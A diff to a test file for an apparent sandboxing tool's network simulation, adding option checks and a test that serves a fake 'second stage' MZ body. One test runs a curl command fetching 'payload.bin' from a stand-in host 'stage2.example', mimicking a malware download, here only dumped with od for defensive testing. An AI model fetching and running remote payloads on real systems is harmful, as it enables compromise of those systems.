@@ -109,9 +109,23 @@ def test_beacons_udp_and_wget_with_payloads_kept(host, tmp_path):
     assert of(res, "net.capture", http_request="GET /get HTTP/1.1", http_host="w.example:8081")
 
 
-def test_net_sim_needs_the_wall():
+def test_net_sim_needs_the_wall_and_its_options_need_it():
     res = run_bubble(["/bin/true"], ["--net-sim", "--deny-net=0"])
     assert res.rc == 125 and "--net-sim runs inside the network wall" in res.stderr
+    res = run_bubble(["/bin/true"], ["--captures", "/tmp/x"])
+    assert res.rc == 125 and "--captures is an option of --net-sim" in res.stderr
+
+
+def test_the_http_body_is_configurable(host, tmp_path):
+    body = tmp_path / "stage2.bin"
+    body.write_bytes(b"MZ\x90\x00 second stage\n")
+    os.chmod(tmp_path, 0o755)
+    res = run_bubble(
+        sh("curl -s http://stage2.example/payload.bin | od -c | head -1"),
+        ["--net-sim", "--http-body", str(body)],
+        timeout=120,
+    )
+    assert "M   Z 220  \\0       s   e   c   o   n   d" in res.stdout, res.stdout + res.stderr
 
 
 def test_timeout_ends_the_run_and_records_what_was_left_open(host):
